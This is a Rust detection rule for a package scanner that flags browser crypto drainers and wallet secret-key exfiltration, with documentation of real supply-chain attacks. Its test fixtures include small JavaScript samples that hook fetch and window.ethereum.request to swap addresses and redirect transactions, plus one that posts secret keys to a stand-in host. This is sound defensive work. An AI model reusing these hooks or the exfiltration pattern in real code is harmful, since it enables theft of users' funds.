@@ -1,0 +1,582 @@
+//! `wallet-hijack`: browser crypto drainers and key stealers.
+//!
+//! Combines three kinds of fact from one file: hooks (an assignment that replaces `fetch`,
+//! `XMLHttpRequest.prototype.open/send`, `window.ethereum.request`, a Solana or TronLink
+//! provider method), hard-coded crypto addresses of several chains and address-matching
+//! regular expressions, and similarity search (Levenshtein) to pick a look-alike address.
+//! Separately, it flags secret keys handed to a local helper in a file that posts to a
+//! hard-coded URL (the @solana/web3.js 1.95.6 `addToQueue` backdoor).
+
+use palisade_core::{Capability, Confidence, Finding, Severity};
+
+use super::signals::{self, finding};
+use super::{FileRule, RuleInfo};
+use crate::facts::{Call, FileFacts, Value};
+
+pub struct WalletHijack;
+
+static INFO: RuleInfo = RuleInfo {
+    id: "wallet-hijack",
+    severity: Severity::Critical,
+    confidence: Confidence::High,
+    capabilities: &[Capability::Wallet, Capability::Network],
+    summary:
+        "Hooks fetch/XMLHttpRequest or a wallet provider to swap crypto addresses, or sends wallet secret keys away",
+    docs: r#"## What it detects
+
+Code that intercepts what a web page sends or receives to steal cryptocurrency:
+
+- **Address swapping**: `fetch` or `XMLHttpRequest.prototype.open/send` is replaced by a wrapper
+  in a file that also hard-codes addresses of several chains (Ethereum `0x…`, Bitcoin legacy and
+  bech32, Tron `T…`, Litecoin, Bitcoin Cash, Solana) or address-matching regular expressions,
+  and picks the attacker address most similar to the victim's (Levenshtein distance) so the swap
+  is hard to notice.
+- **Transaction hijacking**: `window.ethereum.request`/`send`, a Solana (`window.solana`,
+  Phantom) or TronLink provider method is replaced, in a file that names signing methods
+  (`eth_sendTransaction`, `solana_signTransaction`, …) and hard-codes a receiving address.
+- **Secret-key exfiltration**: wallet secret keys (`secretKey`, `privateKey`, seeds, mnemonics)
+  are passed to a local helper from several places in a file that posts to a hard-coded URL.
+
+## Real attacks
+
+- chalk, debug, ansi-styles, supports-color and 14 other packages by the same maintainer
+  (8 September 2025, phished account): a drainer prepended to the bundle hooked `fetch`,
+  `XMLHttpRequest` and `window.ethereum.request`, rewrote addresses of six chains with the
+  nearest attacker address by Levenshtein distance, and redirected `approve`/`transfer` calls.
+- @solana/web3.js 1.95.6 and 1.95.7 (December 2024): `Keypair.fromSecretKey`, `fromSeed` and
+  other key paths called `addToQueue(secretKey)`, which sent the key in HTTP headers to
+  `sol-rpc.xyz`.
+
+## Known false positives
+
+Wallet SDKs call `window.ethereum.request` (a call, not a replacement) and are not flagged.
+Instrumentation (Sentry, zone.js, mocking libraries) replaces `fetch`/`XMLHttpRequest` but
+does not hard-code crypto addresses. A test suite shipping address fixtures next to an XHR
+mock could match; the finding names the hook and the addresses so a reviewer can tell.
+"#,
+};
+
+impl FileRule for WalletHijack {
+    fn info(&self) -> &'static RuleInfo {
+        &INFO
+    }
+
+    fn check(&self, file: &FileFacts, out: &mut Vec<Finding>) {
+        let Some(text) = file.text.as_deref() else { return };
+        check_hooks(file, text, out);
+        check_key_exfiltration(file, out);
+    }
+}
+
+/// Which chain a hard-coded string is an address of, if any.
+pub(crate) fn address_kind(value: &str) -> Option<&'static str> {
+    let value = value.trim();
+    let base58 = |s: &str| {
+        s.bytes()
+            .all(|b| b.is_ascii_alphanumeric() && !matches!(b, b'0' | b'O' | b'I' | b'l'))
+    };
+    let bech32 = |s: &str| s.bytes().all(|b| b"qpzry9x8gf2tvdw0s3jn54khce6mua7l".contains(&b));
+    let mixed = |s: &str| {
+        s.bytes().any(|b| b.is_ascii_uppercase())
+            && s.bytes().any(|b| b.is_ascii_lowercase())
+            && s.bytes().any(|b| b.is_ascii_digit())
+    };
+    let len = value.len();
+    if len == 42 && value.starts_with("0x") && value[2..].bytes().all(|b| b.is_ascii_hexdigit()) {
+        // The zero address and other all-same-digit constants are not anyone's wallet.
+        let distinct = value[2..].bytes().collect::<std::collections::BTreeSet<_>>().len();
+        return (distinct > 4).then_some("ethereum");
+    }
+    if let Some(rest) = value.strip_prefix("bc1") {
+        return ((39..=59).contains(&rest.len()) && bech32(rest)).then_some("bitcoin");
+    }
+    if let Some(rest) = value.strip_prefix("ltc1") {
+        return ((11..=71).contains(&rest.len()) && bech32(rest)).then_some("litecoin");
+    }
+    if let Some(rest) = value.strip_prefix("bitcoincash:") {
+        return (rest.len() == 42 && rest.starts_with(['q', 'p'])).then_some("bitcoin-cash");
+    }
+    if !base58(value) || !mixed(value) {
+        return None;
+    }
+    match value.as_bytes()[0] {
+        b'1' | b'3' if (26..=35).contains(&len) => Some("bitcoin"),
+        b'T' if len == 34 => Some("tron"),
+        b'L' | b'M' if len == 34 => Some("litecoin"),
+        _ if (32..=44).contains(&len) => Some("solana"),
+        _ => None,
+    }
+}
+
+/// Fragments of regular expressions that match addresses of one chain each.
+const ADDRESS_PATTERNS: &[(&str, &str)] = &[
+    ("ethereum", "0x[a-fa-f0-9]{40}"),
+    ("ethereum", "0x[0-9a-fa-f]{40}"),
+    ("ethereum", "0x[a-f0-9]{40}"),
+    ("ethereum", "0x[0-9a-f]{40}"),
+    ("bitcoin", "(bc1q|bc1p)"),
+    ("bitcoin", "bc1[qp"),
+    ("bitcoin", "bc1q[a-z0-9"),
+    ("bitcoin", "[13][a-km-za-hj-np-z1-9]"),
+    ("tron", "t[1-9a-hj-np-za-km-z]{33}"),
+    ("litecoin", "ltc1[qpzry9x8gf2tvdw0s3jn54khce6mua7l]"),
+    ("litecoin", "[lm][a-km-za-hj-np-z1-9]"),
+    ("bitcoin-cash", "bitcoincash:[qp]"),
+    ("solana", "[1-9a-hj-np-za-km-z]{32,44}"),
+];
+
+const TRANSACTION_METHODS: &[&str] = &[
+    "eth_sendtransaction",
+    "eth_signtransaction",
+    "eth_sign",
+    "eth_signtypeddata",
+    "personal_sign",
+    "solana_signtransaction",
+    "solana_signandsendtransaction",
+    "signandsendtransaction",
+    "signtransaction",
+    "0x095ea7b3", // approve(address,uint256)
+    "0xa9059cbb", // transfer(address,uint256)
+];
+
+#[derive(Default)]
+struct Hooks<'a> {
+    network: Vec<(u32, &'a str)>,
+    provider: Vec<(u32, &'a str)>,
+}
+
+fn is_network_hook(target: &str) -> bool {
+    let target = target
+        .trim_start_matches("window.")
+        .trim_start_matches("globalThis.")
+        .trim_start_matches("self.");
+    matches!(
+        target,
+        "fetch"
+            | "XMLHttpRequest.prototype.open"
+            | "XMLHttpRequest.prototype.send"
+            | "XMLHttpRequest.prototype.setRequestHeader"
+            | "XMLHttpRequest"
+    )
+}
+
+fn is_provider_path(path: &str) -> bool {
+    let lower = path.to_ascii_lowercase();
+    [
+        "ethereum",
+        "solana",
+        "phantom",
+        "tronweb",
+        "tronlink",
+        "solflare",
+        "okxwallet",
+        "coinbasewallet",
+    ]
+    .iter()
+    .any(|name| lower.contains(name))
+}
+
+const PROVIDER_METHODS: &[&str] = &[
+    "request",
+    "send",
+    "sendAsync",
+    "enable",
+    "signTransaction",
+    "signAllTransactions",
+    "signAndSendTransaction",
+    "signMessage",
+    "sign",
+    "sendTransaction",
+];
+
+fn collect_hooks<'a>(file: &'a FileFacts, names_transactions: bool) -> Hooks<'a> {
+    let mut hooks = Hooks::default();
+    for assignment in &file.assignments {
+        let target = assignment.target.as_str();
+        if is_network_hook(target) {
+            hooks.network.push((assignment.line, assignment.excerpt.as_str()));
+            continue;
+        }
+        let method = signals::method(target);
+        let replaces_method = PROVIDER_METHODS.contains(&method) && matches!(assignment.value, Value::Function);
+        // `window.ethereum.request = …`, or `w.request = async function …` on a provider the
+        // file found elsewhere (the chalk drainer wraps whatever `window.ethereum` holds).
+        if replaces_method && (is_provider_path(target) || (names_transactions && method == "request")) {
+            hooks.provider.push((assignment.line, assignment.excerpt.as_str()));
+        }
+    }
+    for call in &file.calls {
+        if call.callee == "Object.defineProperty" || call.callee == "Reflect.defineProperty" {
+            let property = call.args.get(1).and_then(Value::as_str).unwrap_or("");
+            match property {
+                "fetch" | "XMLHttpRequest" => hooks.network.push((call.line, call.excerpt.as_str())),
+                "ethereum" | "solana" | "tronWeb" | "tronLink" | "phantom" => {
+                    hooks.provider.push((call.line, call.excerpt.as_str()))
+                }
+                _ => {}
+            }
+        }
+        if call.callee == "Proxy" && call.is_new && call.args.first().is_some_and(provider_value) {
+            hooks.provider.push((call.line, call.excerpt.as_str()));
+        }
+    }
+    hooks
+}
+
+fn provider_value(value: &Value) -> bool {
+    match value {
+        Value::Member { path } => is_provider_path(path),
+        Value::Ident { name } => is_provider_path(name),
+        _ => false,
+    }
+}
+
+fn check_hooks(file: &FileFacts, text: &str, out: &mut Vec<Finding>) {
+    let lower = text.to_lowercase();
+    let transaction_methods: Vec<&str> = TRANSACTION_METHODS
+        .iter()
+        .copied()
+        .filter(|method| lower.contains(method))
+        .collect();
+    let hooks = collect_hooks(file, !transaction_methods.is_empty());
+    let mut kinds: Vec<&'static str> = Vec::new();
+    let mut addresses: Vec<&str> = Vec::new();
+    for string in &file.strings {
+        if let Some(kind) = address_kind(&string.value) {
+            if !kinds.contains(&kind) {
+                kinds.push(kind);
+            }
+            addresses.push(&string.value);
+        }
+    }
+    // Solana-shaped strings are any long base58 word; only count them next to other chains.
+    let strong_kinds = kinds.iter().filter(|kind| **kind != "solana").count();
+    let kinds_count = if strong_kinds > 0 { kinds.len() } else { 0 };
+    let squeezed: String = lower.chars().filter(|c| !c.is_whitespace()).collect();
+    let mut pattern_kinds: Vec<&str> = Vec::new();
+    for (kind, fragment) in ADDRESS_PATTERNS {
+        if squeezed.contains(fragment) && !pattern_kinds.contains(kind) {
+            pattern_kinds.push(kind);
+        }
+    }
+    let similarity = squeezed.contains("[i-1][j-1]")
+        || squeezed.contains("[j-1][i-1]")
+        || lower.contains("levenshtein")
+        || lower.contains("editdistance");
+    let rewrites_addresses = kinds_count >= 2 || (pattern_kinds.len() >= 2 && (similarity || kinds_count >= 1));
+    let address_summary = || {
+        let mut parts = Vec::new();
+        if !kinds.is_empty() {
+            parts.push(format!("hard-coded {} address(es)", kinds.join("/")));
+        }
+        if !pattern_kinds.is_empty() {
+            parts.push(format!("regular expressions for {} addresses", pattern_kinds.join("/")));
+        }
+        if similarity {
+            parts.push("a similarity (Levenshtein) search to pick a look-alike".to_string());
+        }
+        parts.join(", ")
+    };
+
+    if let Some((line, excerpt)) = hooks.network.first() {
+        if rewrites_addresses {
+            out.push(finding(
+                &INFO,
+                file,
+                *line,
+                Severity::Critical,
+                Confidence::High,
+                format!(
+                    "Replaces fetch/XMLHttpRequest and carries {}: the shape of the September 2025 chalk/debug crypto clipper, which rewrote wallet addresses in every web response.",
+                    address_summary()
+                ),
+                excerpt,
+            ));
+            return;
+        }
+    }
+    if let Some((line, excerpt)) = hooks.provider.first() {
+        if !transaction_methods.is_empty() && (strong_kinds > 0 || rewrites_addresses) {
+            out.push(finding(
+                &INFO,
+                file,
+                *line,
+                Severity::Critical,
+                Confidence::High,
+                format!(
+                    "Replaces a wallet provider method and rewrites {} requests with {}: transactions would go to the attacker.",
+                    transaction_methods.join("/"),
+                    address_summary()
+                ),
+                excerpt,
+            ));
+            return;
+        }
+        if !transaction_methods.is_empty() {
+            out.push(finding(
+                &INFO,
+                file,
+                *line,
+                Severity::High,
+                Confidence::Medium,
+                format!(
+                    "Replaces a browser wallet provider method in a file that handles {} requests: a hook that can alter what the user signs.",
+                    transaction_methods.join("/")
+                ),
+                excerpt,
+            ));
+            return;
+        }
+    }
+    if rewrites_addresses && similarity && pattern_kinds.len() >= 2 {
+        let line = file
+            .strings
+            .iter()
+            .find(|s| address_kind(&s.value).is_some())
+            .map(|s| s.line)
+            .unwrap_or(1);
+        out.push(finding(
+            &INFO,
+            file,
+            line,
+            Severity::High,
+            Confidence::Medium,
+            format!(
+                "Searches text for crypto addresses and replaces them: {}.",
+                address_summary()
+            ),
+            "",
+        ));
+    }
+}
+
+/// Names of values that hold wallet secrets.
+fn is_secret_name(name: &str) -> bool {
+    let lower = name.to_ascii_lowercase().replace('_', "");
+    [
+        "secretkey",
+        "privatekey",
+        "privkey",
+        "mnemonic",
+        "seedphrase",
+        "recoveryphrase",
+    ]
+    .iter()
+    .any(|s| lower.contains(s))
+}
+
+/// Callee names that legitimately take secret keys: crypto primitives, converters, storage.
+fn is_key_handling_callee(name: &str) -> bool {
+    let lower = name.to_ascii_lowercase();
+    const PREFIXES: &[&str] = &[
+        "to", "from", "is", "get", "set", "new", "create", "generate", "load", "save", "store", "import", "export",
+        "parse", "serial", "copy", "fill", "wipe", "clear", "zero", "check", "assert", "valid", "verify", "sign",
+        "log", "emit", "push", "concat", "slice", "encode", "decode", "hash", "derive", "compare", "equal", "write",
+        "read", "print", "format", "throw", "expect",
+    ];
+    const PARTS: &[&str] = &[
+        "key", "seed", "sign", "crypt", "hash", "hmac", "address", "public", "wallet", "account", "buffer", "array",
+        "hex", "bytes", "length", "error", "warn", "debug", "json", "string", "mnemonic", "entropy", "cipher",
+    ];
+    PREFIXES.iter().any(|prefix| lower.starts_with(prefix)) || PARTS.iter().any(|part| lower.contains(part))
+}
+
+fn secret_argument(call: &Call) -> Option<String> {
+    let from_values = call.args.iter().find_map(|arg| match arg {
+        Value::Ident { name } if is_secret_name(name) => Some(name.clone()),
+        Value::Member { path } if is_secret_name(signals::method(path)) => Some(path.clone()),
+        _ => None,
+    });
+    if from_values.is_some() {
+        return from_values;
+    }
+    // Arguments the extractor kept as Unknown (`this._keypair.secretKey`): read the excerpt's
+    // argument list, after the callee.
+    let (_, arguments) = call.excerpt.split_once('(')?;
+    let word = arguments
+        .split(|c: char| !(c.is_ascii_alphanumeric() || c == '_' || c == '$'))
+        .find(|word| is_secret_name(word))?;
+    (!word.is_empty()).then(|| word.to_string())
+}
+
+fn posts_to_literal_url(file: &FileFacts) -> Option<&Call> {
+    file.calls.iter().find(|call| {
+        signals::is_network_call(call)
+            && call.args.first().and_then(Value::as_str).is_some_and(|url| {
+                let url = url.to_ascii_lowercase();
+                (url.starts_with("https://") || url.starts_with("http://"))
+                    && !["://localhost", "://127.", "://[::1]", "://0.0.0.0"]
+                        .iter()
+                        .any(|l| url.contains(l))
+            })
+    })
+}
+
+fn check_key_exfiltration(file: &FileFacts, out: &mut Vec<Finding>) {
+    let mut sites: Vec<(&str, &Call, String)> = Vec::new();
+    for call in &file.calls {
+        let callee = call.callee.as_str();
+        let root = callee.split('.').next().unwrap_or(callee);
+        // Calls into imported modules (bs58.encode, nacl.sign) are library code, not a local sink.
+        if call.is_new || file.imports.iter().any(|import| import == root) || signals::is_network_call(call) {
+            continue;
+        }
+        let name = signals::method(callee);
+        if name.is_empty() || name == "?" || is_key_handling_callee(name) {
+            continue;
+        }
+        if let Some(secret) = secret_argument(call) {
+            sites.push((name, call, secret));
+        }
+    }
+    if sites.is_empty() {
+        return;
+    }
+    let Some(sink) = posts_to_literal_url(file) else { return };
+    let (name, call, secret) = &sites[0];
+    let same_callee = sites.iter().filter(|(other, _, _)| other == name).count();
+    let (severity, confidence) = if same_callee >= 2 {
+        (Severity::Critical, Confidence::High)
+    } else {
+        (Severity::High, Confidence::Medium)
+    };
+    let url = sink.args.first().and_then(Value::as_str).unwrap_or("");
+    out.push(finding(
+        &INFO,
+        file,
+        call.line,
+        severity,
+        confidence,
+        format!(
+            "Passes wallet secret `{secret}` to `{name}` ({same_callee} call site(s)) in a file that sends requests to {}: how @solana/web3.js 1.95.6 leaked private keys.",
+            palisade_core::bounded_excerpt(url, 80)
+        ),
+        &call.excerpt,
+    ));
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::facts;
+
+    fn run(source: &str) -> Vec<Finding> {
+        let file = facts::extract("index.js", source.as_bytes(), 0o644);
+        let mut out = Vec::new();
+        WalletHijack.check(&file, &mut out);
+        out
+    }
+
+    fn worst(findings: &[Finding]) -> Option<Severity> {
+        findings.iter().map(|f| f.severity).max()
+    }
+
+    #[test]
+    fn classifies_addresses() {
+        assert_eq!(
+            address_kind("0xFc4a4858bafef54D1b1d7697bfb5c52F4c166976"),
+            Some("ethereum")
+        );
+        assert_eq!(address_kind("0x0000000000000000000000000000000000000000"), None);
+        assert_eq!(
+            address_kind("bc1qms4f8ys8c4z47h0q29nnmyekc9r74u5ypqw6wm"),
+            Some("bitcoin")
+        );
+        assert_eq!(address_kind("1H13VnQJKtT4HjD5ZFKaaiZEetMbG7nDHx"), Some("bitcoin"));
+        assert_eq!(address_kind("TB9emsCq6fQw6wRk4HBxxNnU6Hwt1DnV67"), Some("tron"));
+        assert_eq!(address_kind("LNFWHeiSjb4QB4iSHMEvaZ8caPwtz4t6Ug"), Some("litecoin"));
+        assert_eq!(address_kind("application/json"), None);
+        assert_eq!(address_kind("abcdefghijklmnopqrstuvwxyzabcdefgh"), None);
+    }
+
+    #[test]
+    fn flags_fetch_hook_with_addresses() {
+        let source = r#"
+const targets = ['0x3b6a1c9e2d4f5a6b7c8d9e0f1a2b3c4d5e6f7a8b', 'bc1q9h7garjh5sl6t0xsq5lnw7vh4g8ltr93fm7pzc', 'TXk4bTgBbrsd6pS2Uy8yCz2RXwTXY5LCv3'];
+function closest(a, list) { let best = list[0]; return best; }
+const original = window.fetch;
+window.fetch = async function (...args) {
+  const response = await original(...args);
+  const body = await response.clone().text();
+  return new Response(body.replace(/0x[a-fA-F0-9]{40}/g, (m) => closest(m, targets)));
+};
+"#;
+        let findings = run(source);
+        assert_eq!(worst(&findings), Some(Severity::Critical), "{findings:#?}");
+        assert_eq!(findings[0].line, Some(5));
+    }
+
+    #[test]
+    fn flags_xhr_hook_with_patterns_and_levenshtein() {
+        let source = r#"
+function lev(a, b) { const m = []; for (let i = 1; i <= b.length; i++) for (let j = 1; j <= a.length; j++)
+  m[i][j] = Math.min(m[i - 1][j - 1] + 1, m[i][j - 1] + 1); return m[b.length][a.length]; }
+const patterns = { eth: /\b0x[a-fA-F0-9]{40}\b/g, btc: /\b(bc1q|bc1p)[0-9a-z]{38,58}\b/g };
+const send = XMLHttpRequest.prototype.send;
+XMLHttpRequest.prototype.send = function (body) { return send.apply(this, arguments); };
+"#;
+        assert_eq!(worst(&run(source)), Some(Severity::Critical));
+    }
+
+    #[test]
+    fn flags_ethereum_request_hook() {
+        let source = r#"
+if (window.ethereum) {
+  const original = window.ethereum.request;
+  window.ethereum.request = async function (args) {
+    if (args.method === 'eth_sendTransaction') { args.params[0].to = '0x71c7656ec7ab88b098defb751b7401b5f6d8976f'; }
+    return original.call(this, args);
+  };
+}
+"#;
+        assert_eq!(worst(&run(source)), Some(Severity::Critical));
+    }
+
+    #[test]
+    fn flags_secret_key_exfiltration() {
+        let source = r#"
+class Queue {
+  static enqueue(k) { fetch("https://rpc-metrics.example/api/queue", { method: "POST", headers: { "x-id": String(k) } }).catch(() => {}); }
+}
+class Pair {
+  static fromSecretKey(secretKey) { Queue.enqueue(secretKey); return new Pair(secretKey); }
+  static fromSeed(seed) { const privateKey = derive(seed); Queue.enqueue(privateKey); return new Pair(privateKey); }
+}
+"#;
+        let findings = run(source);
+        assert_eq!(worst(&findings), Some(Severity::Critical), "{findings:#?}");
+    }
+
+    #[test]
+    fn quiet_on_wallet_sdk_calls() {
+        let source = r#"
+export async function connect() {
+  const accounts = await window.ethereum.request({ method: 'eth_requestAccounts' });
+  const tx = await window.ethereum.request({ method: 'eth_sendTransaction', params: [{ from: accounts[0], to: '0x71c7656ec7ab88b098defb751b7401b5f6d8976f' }] });
+  return tx;
+}
+"#;
+        assert!(run(source).is_empty());
+    }
+
+    #[test]
+    fn quiet_on_fetch_instrumentation() {
+        let source = r#"
+const originalFetch = window.fetch;
+window.fetch = function (...args) { const start = Date.now(); return originalFetch.apply(this, args).finally(() => record(Date.now() - start)); };
+const isAddress = (s) => /^0x[0-9a-fA-F]{40}$/.test(s);
+"#;
+        assert!(run(source).is_empty());
+    }
+
+    #[test]
+    fn quiet_on_keys_handled_locally() {
+        let source = r#"
+import nacl from 'tweetnacl';
+export function signWith(secretKey, message) { return nacl.sign.detached(message, secretKey); }
+export function keypair(secretKey) { return fromSecretKey(secretKey); }
+export async function rpc(url, body) { return fetch(url, { method: 'POST', body }); }
+"#;
+        assert!(run(source).is_empty());
+    }
+}
